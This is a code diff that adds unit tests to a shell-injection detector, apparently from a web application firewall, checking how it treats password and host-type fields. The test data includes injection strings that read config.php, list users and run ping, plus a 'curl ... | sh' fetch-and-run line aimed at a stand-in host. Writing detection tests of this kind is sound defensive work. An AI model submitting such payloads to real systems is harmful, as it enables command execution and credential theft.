@@ -599,6 +599,27 @@ TEST(Shell, FilesAmongWords) {
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
 }
 
+// A password is given to commands, too: one with a blank and no quote was not generated.
+TEST(Shell, SecretsWithBlanks) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const std::string_view text : {";ping -c1 x", "& type config.php", "& net user", "|cat config.php"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "password"))) << text;
+  for (const std::string_view text : {"correct horse; battery", "xk;id", "a|cat", "p&ls", "my dog & cat"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "password"))) << text;
+}
+
+// Fields whose names say that a host or a user stands in them hold no script.
+TEST(Shell, ScriptsByTheNameOfTheirField) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  std::string text = "#!/bin/sh\n";
+  for (int i = 0; i < 10; ++i) text += "# a line of it that says nothing\n";
+  text += "curl http://a.example/x | sh\n";
+  for (const std::string_view name : {"host", "ip", "username", "url"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
+  for (const std::string_view name : {"script", "job[content]", "message", "userdata"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
+}
+
 // Names of commands that expansions make, and what stands before a name and comes to nothing. Each was run by
 // bash.
 TEST(Shell, NamesThatExpansionsMake) {
